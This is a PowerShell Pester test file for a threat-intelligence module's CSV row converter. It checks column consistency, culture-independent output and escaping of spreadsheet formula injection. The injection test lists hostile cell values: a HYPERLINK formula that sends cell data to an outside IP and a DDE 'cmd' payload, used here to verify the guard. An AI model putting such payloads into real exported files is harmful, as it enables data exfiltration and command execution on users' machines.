BeforeAll {
    . "$PSScriptRoot/../Shared/Import.ps1"
    Connect-TGServer $emulator.Uri -ApiKey (ConvertTo-SecureString $key -AsPlainText -Force) | Out-Null
    $window = @{ After = '2026-03-02T10:00:00Z'; Before = '2026-03-02T10:01:00Z' }
}

AfterAll {
    Stop-TGEmulator $emulator
}

Describe 'ConvertTo-TGRow' {
    BeforeEach {
        Reset-TGEmulator $emulator
    }

    It 'has the same columns for every row of a type (P5, P6)' {
        Set-TGEmulatorFeed $emulator -Family iocs -Name ips -Rows '[{"timestamp":"2026-03-02T10:00:01Z"},{"timestamp":"2026-03-02T10:00:02.5Z","ip":"11.0.0.1","port":443,"confidence":0,"severity":95,"ioc":"a","sample_id":"b","sample_sha256":"c","new":[1,2]}]'
        $rows = Get-TGIocFeed Ip @window -Confidence 0 | ConvertTo-TGRow
        ($rows[0].PSObject.Properties.Name -join ',') | Should -Be ($rows[1].PSObject.Properties.Name -join ',')
        $rows[0].Port | Should -Be ''
        $rows[1].Port | Should -Be '443'
        $rows[1].Confidence | Should -Be '0'
        $rows[0].Confidence | Should -Be ''
        $rows[1].Timestamp | Should -Be '2026-03-02T10:00:02.5Z'
        $rows[1].PSObject.Properties.Name | Should -Not -Contain 'TimestampUtc'
    }

    It 'joins lists so that the values can be told apart' {
        Set-TGEmulatorFeed $emulator -Family curated -Name rat-dns -Date 2026-03-02 -Rows '[{"domain":"a.example","ips":["192.0.2.1","eu; west","x"],"timestamp":"2026-03-02T10:00:00Z"}]'
        (Get-TGCuratedFeed rat-dns -Date 2026-03-02 | ConvertTo-TGRow).Ips | Should -Be '192.0.2.1; eu\; west; x'
    }

    It 'guards <Text> (P7, case 14)' -ForEach @(
        @{ Text = '=HYPERLINK("http://11.0.0.9/?"&A1,"open")'; Guarded = $true }
        @{ Text = '+1+1'; Guarded = $true }
        @{ Text = "-2+3+cmd|' /C calc'!A0"; Guarded = $true }
        @{ Text = '@SUM(1,1)'; Guarded = $true }
        @{ Text = "`t=1+1"; Guarded = $true }
        @{ Text = "`r=1+1"; Guarded = $true }
        @{ Text = '-'; Guarded = $true }
        @{ Text = '-5'; Guarded = $true }
        @{ Text = '+49 30 1234'; Guarded = $true }
        @{ Text = "$([char]0xFF1D)1+1"; Guarded = $true }
        @{ Text = ' =leading space'; Guarded = $true }
        @{ Text = 'normal.exe'; Guarded = $false }
        @{ Text = "'=quoted"; Guarded = $false }
        @{ Text = '%00'; Guarded = $false }
        @{ Text = 'name;=1+1'; Guarded = $false }
    ) {
        $json = '[' + (@{ timestamp = '2026-03-02T10:00:01Z'; path = $Text; severity = -5; confidence = 90 } | ConvertTo-Json -Compress) + ']'
        Set-TGEmulatorFeed $emulator -Family iocs -Name paths -Rows $json
        Set-TGEmulatorSetting $emulator @{ ignoreWindow = $true }
        $item = Get-TGIocFeed Path @window -Severity 0 -ErrorAction Stop
        if (-not $item) {
            Set-TGEmulatorFeed $emulator -Family iocs -Name paths -Rows ($json -replace '-5,', '5,' -replace '-5}', '5}')
            $item = Get-TGIocFeed Path @window -Severity 0
        }

        ($item | ConvertTo-TGRow).Path | Should -BeExactly ($Guarded ? "'$Text" : $Text)
        ($item | ConvertTo-TGRow -NoGuard).Path | Should -BeExactly $Text
        ($item | ConvertTo-TGRow).Severity | Should -Match '^-?5$'
    }

    It 'survives Export-Csv and Import-Csv with quotes, line feeds and other scripts' {
        $text = "a,`"b`"`nc`u{fc}–漢字.js"
        Set-TGEmulatorFeed $emulator -Family iocs -Name paths -Rows ('[' + (@{ timestamp = '2026-03-02T10:00:01Z'; path = $text } | ConvertTo-Json -Compress) + ']')
        Get-TGIocFeed Path @window | ConvertTo-TGRow | Export-Csv TestDrive:/p.csv -NoTypeInformation
        (Import-Csv TestDrive:/p.csv).Path | Should -BeExactly $text
    }

    It 'writes the same bytes in every culture and zone (P14, case 23)' {
        $script = "Connect-TGServer $($emulator.Uri) | Out-Null; [Threading.Thread]::CurrentThread.CurrentCulture = [cultureinfo]`$env:TEST_CULTURE; Get-TGIocFeed NetworkStream -After 2018-01-18T00:00Z -Before 2018-01-18T01:00Z | ConvertTo-TGRow | ConvertTo-Csv; Get-TGCuratedFeed rat-dns -Date 2026-03-02 | ConvertTo-TGRow | ConvertTo-Csv"
        $hashes = foreach ($case in @('en-US', 'UTC'), @('de-DE', 'Europe/Berlin'), @('th-TH', 'Asia/Bangkok'), @('ar-SA', 'Asia/Riyadh'), @('fa-IR', 'Asia/Tehran'), @('tr-TR', 'America/New_York')) {
            $child = Invoke-TGChild $script -Environment @{ TG_API_KEY = $key; TG_SERVER = $emulator.Uri; TEST_CULTURE = $case[0]; TZ = $case[1] }
            $child.Output.Count | Should -BeGreaterThan 60
            $child.Output -join "`n"
        }

        @($hashes | Sort-Object -Unique) | Should -HaveCount 1
    }

    It 'makes rows of every object of the module' {
        foreach ($item in (Get-TGConnection), (Test-TGConnection), (Get-TGCuratedFeed -ListAvailable)[0], (Get-TGSampleFeed Ip -Last 2h -First 1), (Get-TGIocFeed RegistryKey -Last 2h -First 1)) {
            $row = $item | ConvertTo-TGRow
            $row | Should -Not -BeNullOrEmpty
            ($row.PSObject.Properties.Value -join ' ') | Should -Not -Match 'System\.|ThreatGrid\.[A-Z]'
        }
    }

    It 'refuses what is no object of the module' {
        'text' | ConvertTo-TGRow -ErrorAction SilentlyContinue -ErrorVariable problems | Should -BeNullOrEmpty
        $problems[0].FullyQualifiedErrorId | Should -BeLike 'NotAnObject,*'
    }
}

Describe 'Export-Csv without ConvertTo-TGRow' {
    It 'prints no type name (P5)' {
        $csv = @(
            Get-TGIocFeed Ip -After 2018-01-18T00:00Z -Before 2018-01-18T01:00Z | ConvertTo-Csv
            Get-TGCuratedFeed rat-dns -Date 2026-03-02 | ConvertTo-Csv
            Get-TGSampleFeed Domain -After 2018-01-18T00:00Z -Before 2018-01-18T01:00Z | ConvertTo-Csv
            Get-TGConnection | ConvertTo-Csv
        ) -join "`n"
        $csv | Should -Not -Match 'System\.|ThreatGrid\.[A-Z]\w+'
    }
}
